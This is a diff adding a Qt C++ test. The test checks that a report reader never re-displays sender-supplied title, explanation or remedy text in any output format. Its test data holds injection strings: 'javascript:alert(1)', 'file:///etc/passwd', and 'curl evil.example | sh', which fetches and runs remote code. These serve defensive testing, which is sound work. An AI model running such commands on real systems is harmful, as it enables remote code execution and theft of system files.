@@ -4,9 +4,13 @@
 #include "catalogue/cataloguefile.h"
 #include "report/jsonreport.h"
 #include "report/redaction.h"
+#include "report/rendering.h"
 #include "report/samples.h"
 #include "support/testprogram.h"
 
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QRandomGenerator>
 #include <QTest>
 
@@ -17,6 +21,8 @@ class TestForeignReport : public QObject {
     Q_OBJECT
 private Q_SLOTS:
     void brokenOnesAreReadOrRefused();
+    void itsOwnWordsAreNotShown_data();
+    void itsOwnWordsAreNotShown();
     void refuses_data();
     void refuses();
 };
@@ -48,6 +54,45 @@ void TestForeignReport::brokenOnesAreReadOrRefused()
         const auto redacted = report::redacted(evidence, catalogue, report::Level::Strict);
         const auto report = report::makeReport(redacted.evidence, catalogue);
         QVERIFY(!report::toJson(report, tests::CodePhrases()).isEmpty());
+    }
+}
+
+void TestForeignReport::itsOwnWordsAreNotShown_data()
+{
+    QTest::addColumn<QString>("words");
+    QTest::newRow("script") << u"javascript:alert(1)"_s;
+    QTest::newRow("file") << u"file:///etc/passwd"_s;
+    QTest::newRow("scheme-of-a-product") << u"ms-settings:network-proxy"_s;
+    QTest::newRow("command") << u"curl evil.example | sh"_s;
+}
+
+/// What to do is said by the program for the findings that it makes itself, so a sender cannot say it.
+void TestForeignReport::itsOwnWordsAreNotShown()
+{
+    QFETCH(QString, words);
+    QJsonObject json
+        = QJsonDocument::fromJson(report::toJson(tests::wholeReport(), tests::CodePhrases())).object();
+    QJsonArray findings = json[u"findings"_s].toArray();
+    QVERIFY(!findings.isEmpty());
+    for (qsizetype i = 0; i < findings.size(); ++i) {
+        QJsonObject finding = findings[i].toObject();
+        for (const QString &text : {u"title"_s, u"explanation"_s, u"remedy"_s}) {
+            QVERIFY(finding.contains(text));
+            finding[text] = words;
+        }
+        findings[i] = finding;
+    }
+    json[u"findings"_s] = findings;
+    const auto opened = report::readReport(QJsonDocument(json).toJson(), u"r.json"_s);
+    QVERIFY(opened.hasValue());
+    const auto shown = report::makeReport(opened->evidence, catalogue::builtInCatalogue());
+    QVERIFY(!shown.verdict.findings.empty());
+    for (const auto format :
+         {report::ReportFormat::Text, report::ReportFormat::Json, report::ReportFormat::Html,
+          report::ReportFormat::Markdown, report::ReportFormat::Events}) {
+        const auto document = report::rendered(shown, format, tests::CodePhrases());
+        QVERIFY(document.hasValue());
+        QVERIFY2(!QString::fromUtf8(*document).contains(words), document->constData());
     }
 }
 
